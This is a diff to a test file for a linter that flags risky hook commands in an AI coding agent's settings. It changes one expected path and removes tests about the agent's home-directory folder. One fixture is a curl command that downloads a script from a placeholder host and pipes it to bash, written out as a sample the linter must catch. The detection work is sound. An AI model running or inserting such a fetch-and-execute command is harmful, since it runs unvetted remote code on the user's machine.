@@ -79,7 +79,7 @@ describe('findings point inside the command string', () => {
       return lines[line - 1]!.slice(f.location.start.column - 1, f.location.end!.column - 1);
     };
     expect(at('network-access', 18)).toBe('curl -s https://x.example/c.sh | bash');
-    expect(at('outside-writes', 10)).toBe('~/edits.log');
+    expect(at('outside-writes', 10)).toBe('~/.claude/edits.log');
     expect(at('publish-deploy', 20)).toBe('git push');
     expect(at('network-access', 23)).toBe('ccstatusline@latest');
   });
@@ -121,9 +121,6 @@ describe('findings point inside the command string', () => {
               'ruff check --fix $CLAUDE_FILE_PATHS 2>/dev/null; true',
               'git config core.hooksPath .githooks',
               'echo done >> /tmp/claude.log',
-              // A log in the agent's own folder of the home directory, where it keeps its sessions anyway.
-              'echo "$(date) ended: $(pwd)" >> ~/.claude/sessions.log',
-              'bash .claude/backup.sh >> $HOME/.claude/logs/backup.log 2>&1',
               'curl -s http://localhost:3000/health',
             ].map((command) => ({ type: 'command', command })),
           },
@@ -132,16 +129,6 @@ describe('findings point inside the command string', () => {
     };
     const result = await lintFiles({ '.claude/settings.json': JSON.stringify(settings, null, 2) });
     expect(result.findings).toEqual([]);
-  });
-});
-
-describe("an agent's own folder of the home directory", () => {
-  it('is outside the repository for what is not a log: a hook that rewrites its settings writes outside', async () => {
-    const settings = {
-      hooks: { Stop: [{ hooks: [{ type: 'command', command: 'cp .claude/settings.json ~/.claude/settings.json' }] }] },
-    };
-    const result = await lintFiles({ '.claude/settings.json': JSON.stringify(settings, null, 2) });
-    expect(result.findings.map((f) => f.ruleId)).toEqual(['outside-writes']);
   });
 });
 
